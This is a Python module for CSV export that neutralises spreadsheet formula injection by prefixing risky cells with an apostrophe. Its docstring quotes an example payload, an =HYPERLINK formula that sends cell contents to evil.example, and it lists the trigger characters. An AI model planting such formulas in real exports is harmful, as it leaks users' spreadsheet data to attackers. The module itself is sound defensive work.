"""CSV cells that a spreadsheet will not run as formulas (issue 18, finding 13).

A product titled ``=HYPERLINK("https://evil.example/?"&A1,"Click")`` was exported as written;
opened in Excel, Sheets or LibreOffice it becomes a live formula (links that leak the sheet's
cells, DDE on old Excel). Every CSV this product writes goes through ``writer``:

- a cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return (OWASP's list)
  gets a leading ``'``, which spreadsheets show as text and do not evaluate;
- a cell that already starts with ``'`` gets one too, so ``unescape`` can undo exactly what
  ``escape`` did (the catalog import reads its own export back unchanged);
- plain numbers (``-3``, ``+5.25``: a negative stock level) are left alone: they are not
  formulas, and a ``'`` would turn them into text.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import Any, TextIO

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?\d+(\.\d+)?")


def escape(value: Any) -> Any:
    """The cell as written: text that a spreadsheet could evaluate is prefixed with ``'``."""
    if not isinstance(value, str) or not value:
        return value
    if value[0] == "'" or (value.startswith(TRIGGERS) and not _NUMBER.fullmatch(value)):
        return "'" + value
    return value


def unescape(value: str) -> str:
    """``escape`` undone (for reading a CSV this product wrote, or one written the same way)."""
    if len(value) > 1 and value[0] == "'" and (value[1] == "'" or value[1:].startswith(TRIGGERS)):
        return value[1:]
    return value


class _SafeWriter:
    """``csv.writer`` with every cell passed through ``escape``."""

    def __init__(self, out: TextIO, **options: Any) -> None:
        self._writer = csv.writer(out, **options)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([escape(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(out: TextIO, **options: Any) -> _SafeWriter:
    """A CSV writer whose cells cannot become formulas (use instead of ``csv.writer``)."""
    return _SafeWriter(out, **options)
